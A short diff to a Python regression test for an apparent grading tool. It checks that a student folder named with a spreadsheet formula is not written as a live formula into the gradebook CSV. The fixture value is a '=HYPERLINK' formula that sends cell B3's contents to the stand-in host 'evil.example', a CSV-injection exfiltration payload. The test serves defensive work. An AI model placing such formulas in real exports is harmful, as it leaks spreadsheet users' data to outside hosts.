@@ -191,7 +191,7 @@ def test_a_format_template_through_getattr_shows_no_frame_in_feedback(tmp_path):
     "cli_batch._write_csv writes the student column verbatim: a folder named `=HYPERLINK(...)` is a live "
     "formula in the gradebook (CSV/formula injection); prefix such cells with a quote"))
 def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
-    name = '=HYPERLINK("http://evil.example/?"&B3,"details")'
+    name = '=HYPERLINK("evil.example?"&B3,"details")'  # no slash: one folder
     (tmp_path / "subs" / name).mkdir(parents=True)
     (tmp_path / "subs" / name / "functions.py").write_text(STUB1.read_text())
     book = tmp_path / "grades.csv"
